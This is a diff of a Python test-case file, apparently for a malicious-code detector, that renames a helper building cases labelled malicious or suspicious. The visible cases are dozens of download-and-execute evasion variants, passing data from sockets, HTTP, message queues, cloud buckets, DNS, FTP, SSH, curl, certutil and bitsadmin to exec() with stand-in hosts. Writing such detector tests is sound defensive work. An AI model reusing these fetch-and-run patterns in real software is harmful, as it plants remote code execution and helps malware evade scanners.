@@ -20,7 +20,7 @@ def _gets(title: str, imports: str, expression: str, verdict: Verdict = MALICIOU
     return evasion(title, bad, good, verdict)
 
 
-def _text(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
+def arriving(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
     """Statements that execute what arrives; the twin does the same in a function and shows its length."""
     code = _WORD.sub(lambda m: repr(_URL if m[0] == "URL" else _HOST), dedent(code).lstrip("\n"))
     good = "def honest():\n" + indent(
@@ -31,7 +31,7 @@ def _text(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
 
 
 CASES = (
-    _text(
+    arriving(
         "socket, readinto a buffer of its file",
         """
         import socket
@@ -41,7 +41,7 @@ CASES = (
         exec(bytes(b).rstrip(b'\\0'))
         """,
     ),
-    _text(
+    arriving(
         "socket, recv_into a view",
         """
         import socket
@@ -52,7 +52,7 @@ CASES = (
         exec(bytes(v[:n]))
         """,
     ),
-    _text(
+    arriving(
         "socket, recvmsg",
         """
         import socket
@@ -62,7 +62,7 @@ CASES = (
         exec(data.decode())
         """,
     ),
-    _text(
+    arriving(
         "socket, recvfrom_into",
         """
         import socket
@@ -73,7 +73,7 @@ CASES = (
         exec(buf[:n].decode())
         """,
     ),
-    _text(
+    arriving(
         "socket, lines of its file",
         """
         import socket
@@ -82,7 +82,7 @@ CASES = (
             exec(line)
         """,
     ),
-    _text(
+    arriving(
         "socket, iter with a sentinel",
         """
         import functools, socket
@@ -90,7 +90,7 @@ CASES = (
         exec(b''.join(iter(functools.partial(s.recv, 4096), b'')))
         """,
     ),
-    _text(
+    arriving(
         "socket by os.read of its number",
         """
         import os, socket
@@ -98,7 +98,7 @@ CASES = (
         exec(os.read(s.fileno(), 65536))
         """,
     ),
-    _text(
+    arriving(
         "socket by os.fdopen of its number",
         """
         import os, socket
@@ -106,7 +106,7 @@ CASES = (
         exec(os.fdopen(s.fileno(), 'rb').read())
         """,
     ),
-    _text(
+    arriving(
         "socket, chosen by selectors",
         """
         import selectors, socket
@@ -117,7 +117,7 @@ CASES = (
             exec(key.fileobj.recv(4096))
         """,
     ),
-    _text(
+    arriving(
         "socket, chosen by select",
         """
         import select, socket
@@ -126,7 +126,7 @@ CASES = (
         exec(r[0].recv(4096))
         """,
     ),
-    _text(
+    arriving(
         "socket, handed to a request handler",
         """
         import socketserver
@@ -136,7 +136,7 @@ CASES = (
         socketserver.TCPServer(('', 8000), H).serve_forever()
         """,
     ),
-    _text(
+    arriving(
         "socket, handed to a base request handler",
         """
         import socketserver
@@ -147,7 +147,7 @@ CASES = (
             s.handle_request()
         """,
     ),
-    _text(
+    arriving(
         "HTTP server's post body",
         """
         from http.server import BaseHTTPRequestHandler, HTTPServer
@@ -157,7 +157,7 @@ CASES = (
         HTTPServer(('', 8000), H).serve_forever()
         """,
     ),
-    _text(
+    arriving(
         "asyncio protocol",
         """
         import asyncio
@@ -170,7 +170,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "asyncio datagrams",
         """
         import asyncio
@@ -183,7 +183,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "asyncio streams, readline",
         """
         import asyncio
@@ -194,7 +194,7 @@ CASES = (
         asyncio.get_event_loop().run_until_complete(main())
         """,
     ),
-    _text(
+    arriving(
         "asyncio streams, readuntil by a server",
         """
         import asyncio
@@ -206,7 +206,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "asyncio loop, sock_recv",
         """
         import asyncio, socket
@@ -218,7 +218,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "asyncore dispatcher",
         """
         import asyncore
@@ -229,7 +229,7 @@ CASES = (
         asyncore.loop()
         """,
     ),
-    _text(
+    arriving(
         "twisted protocol",
         """
         from twisted.internet import reactor, protocol
@@ -242,7 +242,7 @@ CASES = (
         reactor.run()
         """,
     ),
-    _text(
+    arriving(
         "twisted's agent by callbacks",
         """
         from twisted.internet import reactor
@@ -253,14 +253,14 @@ CASES = (
         reactor.run()
         """,
     ),
-    _text(
+    arriving(
         "twisted's getPage",
         """
         from twisted.web.client import getPage
         getPage(URL).addCallback(lambda body: exec(body))
         """,
     ),
-    _text(
+    arriving(
         "treq",
         """
         import treq
@@ -271,7 +271,7 @@ CASES = (
         react(main)
         """,
     ),
-    _text(
+    arriving(
         "tornado, asynchronous",
         """
         import asyncio
@@ -282,7 +282,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "tornado's TCP client",
         """
         import asyncio
@@ -294,7 +294,7 @@ CASES = (
         """,
     ),
     _gets("trio", "import trio", "trio.run(trio.open_tcp_stream, HOST, 443).receive_some(4096)"),
-    _text(
+    arriving(
         "anyio",
         """
         import anyio
@@ -306,7 +306,7 @@ CASES = (
     ),
     _gets("gevent's socket", "from gevent import socket", "socket.create_connection((HOST, 443)).recv(4096)"),
     _gets("eventlet's urllib", "from eventlet.green.urllib import request", "request.urlopen(URL).read()"),
-    _text(
+    arriving(
         "websocket-client's callback",
         """
         import websocket
@@ -315,7 +315,7 @@ CASES = (
         websocket.WebSocketApp(URL, on_message=on_message).run_forever()
         """,
     ),
-    _text(
+    arriving(
         "websockets by iteration",
         """
         import asyncio, websockets
@@ -325,7 +325,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "socket.io's event",
         """
         import socketio
@@ -337,7 +337,7 @@ CASES = (
         sio.wait()
         """,
     ),
-    _text(
+    arriving(
         "MQTT callback",
         """
         import paho.mqtt.client as mqtt
@@ -350,14 +350,14 @@ CASES = (
         c.loop_forever()
         """,
     ),
-    _text(
+    arriving(
         "MQTT, one message",
         """
         import paho.mqtt.subscribe as subscribe
         exec(subscribe.simple('a', hostname=HOST).payload)
         """,
     ),
-    _text(
+    arriving(
         "redis, published",
         """
         import redis
@@ -367,7 +367,7 @@ CASES = (
             exec(m['data'])
         """,
     ),
-    _text(
+    arriving(
         "rabbit callback",
         """
         import pika
@@ -378,7 +378,7 @@ CASES = (
         c.start_consuming()
         """,
     ),
-    _text(
+    arriving(
         "kafka's records",
         """
         from kafka import KafkaConsumer
@@ -386,7 +386,7 @@ CASES = (
             exec(record.value)
         """,
     ),
-    _text(
+    arriving(
         "ZeroMQ multipart",
         """
         import zmq
@@ -395,7 +395,7 @@ CASES = (
         exec(s.recv_multipart()[1])
         """,
     ),
-    _text(
+    arriving(
         "NATS",
         """
         import asyncio, nats
@@ -407,7 +407,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "queue of a cloud",
         """
         import boto3
@@ -415,7 +415,7 @@ CASES = (
         exec(q['Messages'][0]['Body'])
         """,
     ),
-    _text(
+    arriving(
         "bucket's object into a buffer",
         """
         import boto3, io
@@ -424,14 +424,14 @@ CASES = (
         exec(b.getvalue())
         """,
     ),
-    _text(
+    arriving(
         "bucket's object by resource",
         """
         import boto3
         exec(boto3.resource('s3').Object('b', 'k').get()['Body'].read().decode())
         """,
     ),
-    _text(
+    arriving(
         "bucket's object to a file, started",
         """
         import boto3, os
@@ -454,7 +454,7 @@ CASES = (
     _gets(
         "SQL server", "import psycopg2", "psycopg2.connect(host=HOST).cursor().execute('select a from b').fetchone()[0]"
     ),
-    _text(
+    arriving(
         "SQL server, cursor kept",
         """
         import pymysql
@@ -476,14 +476,14 @@ CASES = (
         "import paramiko",
         "paramiko.SFTPClient.from_transport(paramiko.Transport((HOST, 22))).open('a').read()",
     ),
-    _text(
+    arriving(
         "fabric's result",
         """
         from fabric import Connection
         exec(Connection(HOST).run('cat a').stdout)
         """,
     ),
-    _text(
+    arriving(
         "asyncssh",
         """
         import asyncio, asyncssh
@@ -493,7 +493,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "IMAP, parsed by email",
         """
         import email, imaplib
@@ -503,7 +503,7 @@ CASES = (
         exec(email.message_from_bytes(d[0][1]).get_payload(decode=True))
         """,
     ),
-    _text(
+    arriving(
         "POP, joined lines",
         """
         import poplib
@@ -512,7 +512,7 @@ CASES = (
         """,
     ),
     _gets("NNTP", "import nntplib", "nntplib.NNTP(HOST).article('a')[1].lines[9]"),
-    _text(
+    arriving(
         "telnet",
         """
         import telnetlib
@@ -520,7 +520,7 @@ CASES = (
         exec(t.expect([b'.'])[2])
         """,
     ),
-    _text(
+    arriving(
         "FTP by transfercmd",
         """
         import ftplib
@@ -528,14 +528,14 @@ CASES = (
         exec(f.transfercmd('RETR a').recv(65536))
         """,
     ),
-    _text(
+    arriving(
         "FTP's listing",
         """
         import ftplib
         exec(bytes.fromhex(ftplib.FTP(HOST).nlst()[0]))
         """,
     ),
-    _text(
+    arriving(
         "FTP into a buffer",
         """
         import ftplib, io
@@ -544,14 +544,14 @@ CASES = (
         exec(b.getvalue())
         """,
     ),
-    _text(
+    arriving(
         "FTP greeting",
         """
         import ftplib
         exec(ftplib.FTP(HOST).getwelcome()[4:])
         """,
     ),
-    _text(
+    arriving(
         "SMTP banner",
         """
         import smtplib
@@ -564,7 +564,7 @@ CASES = (
         "dns.query.udp(dns.message.make_query('a', 'TXT'), HOST).answer[0][0].strings[0]",
     ),
     _gets("DNS text strings", "import dns.resolver", "b''.join(dns.resolver.resolve(HOST, 'TXT')[0].strings)"),
-    _text(
+    arriving(
         "DNS text, own resolver, loop",
         """
         import dns.resolver
@@ -575,7 +575,7 @@ CASES = (
         exec(code)
         """,
     ),
-    _text(
+    arriving(
         "DNS asynchronous",
         """
         import asyncio, aiodns
@@ -584,14 +584,14 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "names that addresses lead to",
         """
         import socket
         exec(socket.gethostbyaddr('192.0.2.7')[0])
         """,
     ),
-    _text(
+    arriving(
         "certificate's subject",
         """
         import socket, ssl
@@ -600,7 +600,7 @@ CASES = (
         """,
     ),
     _gets("certificate as text", "import ssl", "ssl.get_server_certificate((HOST, 443))"),
-    _text(
+    arriving(
         "TLS by wrap_socket alone",
         """
         import socket, ssl
@@ -608,7 +608,7 @@ CASES = (
         exec(s.read(4096))
         """,
     ),
-    _text(
+    arriving(
         "TLS in memory",
         """
         import socket, ssl
@@ -620,7 +620,7 @@ CASES = (
     ),
     _gets("HTTP header", "import urllib.request", "urllib.request.urlopen(URL).headers['X-A']"),
     _gets("HTTP reason", "import urllib.request", "urllib.request.urlopen(URL).reason"),
-    _text(
+    arriving(
         "HTTP error's body",
         """
         import urllib.request, urllib.error
@@ -630,28 +630,28 @@ CASES = (
             exec(e.read())
         """,
     ),
-    _text(
+    arriving(
         "HTTP status as letters",
         """
         import requests
         exec(''.join(chr(requests.get(URL + str(i)).status_code - 200) for i in range(9)))
         """,
     ),
-    _text(
+    arriving(
         "HTTP address after a redirect",
         """
         import requests, urllib.parse
         exec(urllib.parse.unquote(requests.get(URL).url))
         """,
     ),
-    _text(
+    arriving(
         "HTTP response hook",
         """
         import requests
         requests.get(URL, hooks={'response': lambda r, *a, **k: exec(r.text)})
         """,
     ),
-    _text(
+    arriving(
         "HTTP by an own adapter of a handler",
         """
         import urllib.request
@@ -663,7 +663,7 @@ CASES = (
         urllib.request.build_opener(H).open(URL)
         """,
     ),
-    _text(
+    arriving(
         "HTTP readinto",
         """
         import http.client
@@ -674,7 +674,7 @@ CASES = (
         exec(b)
         """,
     ),
-    _text(
+    arriving(
         "urllib.request of install_opener",
         """
         import urllib.request as u
@@ -683,7 +683,7 @@ CASES = (
             exec(''.join(line.decode() for line in r))
         """,
     ),
-    _text(
+    arriving(
         "requests, streamed lines decoded",
         """
         import requests
@@ -692,7 +692,7 @@ CASES = (
                 exec(line)
         """,
     ),
-    _text(
+    arriving(
         "requests, copyfileobj of raw",
         """
         import io, requests, shutil
@@ -701,7 +701,7 @@ CASES = (
         exec(b.getvalue())
         """,
     ),
-    _text(
+    arriving(
         "httpx stream",
         """
         import httpx
@@ -709,7 +709,7 @@ CASES = (
             exec(b''.join(r.iter_bytes()))
         """,
     ),
-    _text(
+    arriving(
         "aiohttp content chunks",
         """
         import aiohttp, asyncio
@@ -720,7 +720,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "pycurl write function",
         """
         import pycurl
@@ -732,7 +732,7 @@ CASES = (
         exec(b''.join(parts))
         """,
     ),
-    _text(
+    arriving(
         "pycurl exec as write function",
         """
         import pycurl
@@ -742,7 +742,7 @@ CASES = (
         c.perform()
         """,
     ),
-    _text(
+    arriving(
         "pycurl perform_rs",
         """
         import pycurl
@@ -764,7 +764,7 @@ CASES = (
         "from urllib.request import urlopen\nfrom xml.dom import minidom",
         "minidom.parse(urlopen(URL)).documentElement.firstChild.data",
     ),
-    _text(
+    arriving(
         "selenium",
         """
         from selenium import webdriver
@@ -773,7 +773,7 @@ CASES = (
         exec(d.find_element('tag name', 'pre').text)
         """,
     ),
-    _text(
+    arriving(
         "selenium page source",
         """
         from selenium import webdriver
@@ -782,7 +782,7 @@ CASES = (
         exec(d.page_source)
         """,
     ),
-    _text(
+    arriving(
         "playwright",
         """
         from playwright.sync_api import sync_playwright
@@ -793,14 +793,14 @@ CASES = (
         """,
     ),
     _gets("scapy", "from scapy.all import sniff", "sniff(count=1)[0].load"),
-    _text(
+    arriving(
         "scapy callback",
         """
         from scapy.all import sniff
         sniff(filter='udp', prn=lambda p: exec(p.load))
         """,
     ),
-    _text(
+    arriving(
         "GitPython",
         """
         import git, runpy
@@ -808,7 +808,7 @@ CASES = (
         exec(open('/tmp/r/a.py').read())
         """,
     ),
-    _text(
+    arriving(
         "dulwich",
         """
         from dulwich import porcelain
@@ -821,7 +821,7 @@ CASES = (
         "file by PyGithub", "from github import Github", "Github().get_repo('a/b').get_contents('c').decoded_content"
     ),
     _gets("gitlab", "import gitlab", "gitlab.Gitlab(URL).projects.get(1).files.get('a', 'main').decode()"),
-    _text(
+    arriving(
         "telegram's handler",
         """
         from telegram.ext import Application, MessageHandler, filters
@@ -832,7 +832,7 @@ CASES = (
         app.run_polling()
         """,
     ),
-    _text(
+    arriving(
         "discord's event",
         """
         import discord
@@ -865,7 +865,7 @@ CASES = (
         "import win32com.client as w\nh = w.Dispatch('WinHttp.WinHttpRequest.5.1')\nh.Open('GET', 'https://stage.example.invalid/a')\nh.Send()",
         "h.ResponseText",
     ),
-    _text(
+    arriving(
         "WinINet by ctypes",
         """
         import ctypes
@@ -876,7 +876,7 @@ CASES = (
         exec(b.value)
         """,
     ),
-    _text(
+    arriving(
         "socket of C's library",
         """
         import ctypes
@@ -888,7 +888,7 @@ CASES = (
         exec(b.raw)
         """,
     ),
-    _text(
+    arriving(
         "URLDownloadToFile into open",
         """
         import ctypes
@@ -896,21 +896,21 @@ CASES = (
         exec(open('C:/a.txt').read())
         """,
     ),
-    _text(
+    arriving(
         "output of curl",
         """
         import subprocess
         exec(subprocess.run(['curl', '-s', URL], capture_output=True, text=True).stdout)
         """,
     ),
-    _text(
+    arriving(
         "output of wget through a pipe",
         """
         import os
         exec(os.popen('wget -qO- ' + URL).read())
         """,
     ),
-    _text(
+    arriving(
         "output of PowerShell",
         """
         import subprocess
@@ -919,7 +919,7 @@ CASES = (
         exec(out)
         """,
     ),
-    _text(
+    arriving(
         "certutil, then read",
         """
         import os
@@ -927,7 +927,7 @@ CASES = (
         exec(open('C:/a.txt').read())
         """,
     ),
-    _text(
+    arriving(
         "bitsadmin, then started",
         """
         import os
@@ -935,7 +935,7 @@ CASES = (
         os.startfile('C:/a.exe')
         """,
     ),
-    _text(
+    arriving(
         "asyncio's process of curl",
         """
         import asyncio
@@ -946,7 +946,7 @@ CASES = (
         asyncio.run(main())
         """,
     ),
-    _text(
+    arriving(
         "dig",
         """
         import subprocess
@@ -954,7 +954,7 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _text(
+    arriving(
         "nslookup",
         """
         import os
@@ -962,7 +962,7 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _text(
+    arriving(
         "logging's configuration server",
         """
         import logging.config
@@ -970,7 +970,7 @@ CASES = (
         """,
         SUSPICIOUS,
     ),
-    _text(
+    arriving(
         "remote manager",
         """
         from multiprocessing.managers import BaseManager
@@ -982,21 +982,21 @@ CASES = (
         exec(m.code())
         """,
     ),
-    _text(
+    arriving(
         "RPyC",
         """
         import rpyc
         exec(rpyc.connect(HOST, 1).root.code())
         """,
     ),
-    _text(
+    arriving(
         "Pyro",
         """
         import Pyro5.api
         exec(Pyro5.api.Proxy('PYRO:a@' + HOST).code())
         """,
     ),
-    _text(
+    arriving(
         "gRPC",
         """
         import grpc
